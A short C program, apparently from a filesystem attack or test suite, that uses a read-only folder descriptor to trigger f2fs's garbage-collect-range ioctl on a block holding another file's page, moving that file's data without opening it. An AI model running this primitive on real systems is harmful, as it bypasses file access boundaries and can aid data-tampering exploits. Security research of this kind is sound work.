// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Has f2fs move the blocks of a page of a file elsewhere, without opening the file:
 *
 *	collect FOLDER DISK OTHER PAGE
 *
 * FOLDER is on the file system on DISK; the blocks are found by what they hold, PAGE of
 * OTHER. Garbage is collected where they are.
 */
#include "attack.h"

struct gc_range {
	uint32_t sync;
	uint64_t start, len;
};
#define F2FS_IOC_GARBAGE_COLLECT_RANGE _IOW(0xf5, 11, struct gc_range)

int main(int argc, char **argv)
{
	struct gc_range range = { .sync = 1, .len = 1 };
	char page[PAGE];

	if (argc != 5)
		return 2;
	page_of_file(argv[3], atoi(argv[4]), page);
	range.start = (uint64_t)block_of(argv[2], page);
	return answer(ioctl(open_file(argv[1], O_RDONLY),
			    F2FS_IOC_GARBAGE_COLLECT_RANGE, &range));
}
